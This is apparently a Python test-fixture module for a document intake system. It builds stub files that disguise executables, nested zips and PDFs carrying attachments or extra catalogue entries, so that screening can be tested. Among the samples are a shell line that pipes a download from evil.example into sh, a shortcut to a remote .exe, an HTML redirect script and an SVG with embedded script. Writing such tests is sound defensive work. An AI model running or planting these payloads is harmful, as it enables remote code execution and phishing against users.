"""Beginnings of programs, and files that are not what they say: enough to be told by, not enough to do anything."""

import io
import struct
from collections.abc import Mapping
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.desks import pdf
from tests.intake.reading.containers.archives import zip_of
from tests.intake.reading.documents.picture_files import photo

SLIP = pdf("Transfer of USD 2300 on 20 Jan 2026")
DOS = b"This program cannot be run in DOS mode.\r\r\n$"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".ljust(60, b"\0") + struct.pack("<I", 128) + DOS
PE = PE.ljust(128, b"\0") + b"PE\0\0\x4c\x01" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200)
CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200)
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(200)
ISO = bytes(0x8000) + b"\x01CD001\x01" + bytes(2041)
HELP = b"ITSF\x03\x00\x00\x00" + bytes(200)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
FLASH = b"CWS\x0a" + bytes(range(200))
INSTALLER = (
    bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + bytes.fromhex("84100c0000000000c000000000000046") + bytes(500)
)
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
REGISTRY = "\ufeffWindows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n".encode("utf-16-le")
LINK = b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"
PAGE = b"<!DOCTYPE html><html><body><script>location='https://evil.example'</script></body></html>"
DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JPG = photo("JPEG")
GIF = photo("GIF")
PHOTOS = zip_of(("front.jpg", JPG), ("back.jpg", JPG))


def nested(depth: int, name: str, content: bytes) -> bytes:
    """A zip in a zip in a zip, and so on."""
    for level in range(depth):
        name, content = f"level{level}.zip", zip_of((name, content))
    return content


def acting(root: Mapping[str, Any] | None = None, note: Mapping[str, Any] | None = None) -> bytes:
    """The slip with more in its catalogue, or with something laid over its page."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(SLIP)))
    for key, given in (root or {}).items():
        writer.root_object[NameObject(key)] = _value(given)
    if note:
        writer.pages[0][NameObject("/Annots")] = ArrayObject([_value(note)])
    return _written(writer)


def carrying(name: str, content: bytes) -> bytes:
    """The slip with a file in it (ISO 32000-1 7.11.4)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(SLIP)))
    writer.add_attachment(name, content)
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _value(given: Any) -> Any:
    if isinstance(given, Mapping):
        return DictionaryObject({NameObject(key): _value(inner) for key, inner in given.items()})
    return NameObject(given) if str(given).startswith("/") else TextStringObject(given)
